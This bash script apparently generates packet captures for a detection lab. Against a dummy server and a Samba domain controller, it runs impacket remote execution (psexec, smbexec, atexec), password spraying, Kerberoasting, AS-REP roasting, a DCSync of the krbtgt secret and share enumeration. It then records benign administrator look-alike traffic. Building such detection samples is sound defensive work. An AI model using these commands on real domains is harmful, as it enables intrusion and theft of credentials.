#!/bin/bash
# What who takes over a domain does, harmless here: services made and tasks set on a dummy server (dummy.py) by impacket's
# psexec, smbexec, services and atexec, with a stand-in of a program; and on Samba's controller the accounts and shares listed,
# names and a password tried, tickets asked for many services, secrets replicated, and the controller's own login guessed. Then
# what looks alike: an administrator at work.
. "$(dirname "$0")/../lab.sh"
. "$(dirname "$0")/../domain.sh"
need $DOMAIN_PACKAGES ldap-utils
domain_names server client
client_conf
lab_start "tcp port 445"
mkdir -p "$LAB/admin"
printf 'MZ\x90\x00 a stand-in for a program that runs commands' >"$LAB/stand-in.exe"
server_job /usr/bin/python3 "$HERE/dummy.py" $SERVER "$LAB/admin" admin $PASSWORD
wait_port 445
admin="LAB/admin:$PASSWORD@$SERVER"
brief() { local name=$1; shift; (cd "$LAB" && on_client timeout 8 env -u KRB5CCNAME /usr/bin/python3 "/usr/share/doc/python3-impacket/examples/$name.py" "$@" >>"$LAB/client.log" 2>&1 </dev/null) || true; }

brief smbexec -service-name task9 "$admin"
brief services "$admin" create -name helper -display "Helper of the desk" -path 'C:\Windows\Temp\helper.exe -k'
brief services "$admin" start -name helper
brief services "$admin" status -name helper
brief services "$admin" stop -name helper
brief services "$admin" delete -name helper
lab_save "$HERE/services.pcap"

lab_record "tcp port 445"
brief atexec "$admin" whoami
quietly /usr/bin/python3 "$HERE/tasks.py" $SERVER admin $PASSWORD set
lab_save "$HERE/tasks.pcap"
stop_servers

domain_start "server signing = auto" "server smb encrypt = off" "ldap server require strong auth = no"
for number in $(seq 1 6); do
  domain user create "service$number" $PASSWORD
  domain spn add "HTTP/app$number.lab.example" "service$number"
done
names=(alice adam anna bert bella chris clara david diana emil emma fred fiona george greta hans hanna ivan ida ann)

lab_record "tcp port 445"
(cd "$LAB" && example psexec -file "$LAB/stand-in.exe" -service-name remote7 -remote-binary-name remote7.exe "LAB/Administrator:$PASSWORD@$SERVER" whoami)
lab_save "$HERE/psexec.pcap"

lab_record "tcp port 445"
for name in "${names[@]}"; do smb -m SMB3_11 -U "LAB\\$name%Summer2026" --use-kerberos=off //$DC/IPC$ -c quit; done
smb -m SMB3_11 -U "LAB\\ann%$PASSWORD" --use-kerberos=off //$DC/IPC$ -c quit
lab_save "$HERE/spray.pcap"

lab_record "port 88"
for name in "${names[@]}"; do quietly sh -c "echo Summer2026 | kinit $name"; done
quietly sh -c "echo $PASSWORD | kinit ann"
lab_save "$HERE/spray-krb5.pcap"

lab_record "port 88 or port 389"
quietly ldapsearch -x -H ldap://$DC -D "ann@$REALM" -w $PASSWORD -b DC=lab,DC=example '(&(servicePrincipalName=*)(!(objectCategory=computer)))' sAMAccountName servicePrincipalName
quietly sh -c "echo $PASSWORD | kinit ann"
for number in $(seq 1 6); do quietly kvno -e rc4-hmac "HTTP/app$number.lab.example"; done
for service in HTTP/www.lab.example MSSQLSvc/sql.lab.example:1433; do quietly kvno -e rc4-hmac "$service"; done
lab_save "$HERE/tickets.pcap"

lab_record "port 88 or port 389"
printf '%s\n' "${names[@]}" >"$LAB/names"
example GetNPUsers -no-pass -usersfile "$LAB/names" -dc-ip $SERVER lab.example/
lab_save "$HERE/names.pcap"

lab_record "tcp"
rpc -U "Administrator%$PASSWORD" --use-kerberos=off "ncacn_ip_tcp:$DC[seal]" -c 'dsgetncchanges CN=krbtgt,CN=Users,DC=lab,DC=example'
example secretsdump -just-dc-user krbtgt "lab.example/Administrator:$PASSWORD@$SERVER"
lab_save "$HERE/replication.pcap"

lab_record "tcp"
quietly /usr/bin/python3 "$HERE/guesses.py" $SERVER 40
lab_save "$HERE/guesses.pcap"

lab_record "tcp port 445"
smb -m SMB3 -L $DC -U "LAB\\ann%$PASSWORD" --use-kerberos=off
for share in ADMIN\$ C\$ IPC\$ netlogon backup finance; do smb -m SMB3 "//$DC/$share" -U "LAB\\ann%$PASSWORD" --use-kerberos=off -c ls; done
example samrdump "lab.example/ann:$PASSWORD@$SERVER"
example lookupsid "lab.example/ann:$PASSWORD@$SERVER" 600
lab_save "$HERE/shares.pcap"

# Look-alikes.
lab_record "tcp port 445 or port 88"
quietly sh -c "echo wrong | kinit ann"
quietly sh -c "echo $PASSWORD | kinit ann"
for service in cifs/$DC HTTP/app1.lab.example; do quietly kvno $service; done
for name in ann bob carol; do smb -m SMB3_11 "//$DC/docs" -U "LAB\\$name%$PASSWORD" --use-kerberos=off -c ls; done
quietly net rpc service list -s "$LAB/client.conf" -S $DC -U "Administrator%$PASSWORD" --use-kerberos=off
quietly net rpc service status spooler -s "$LAB/client.conf" -S $DC -U "Administrator%$PASSWORD" --use-kerberos=off
lab_save "$HERE/administrator.pcap"
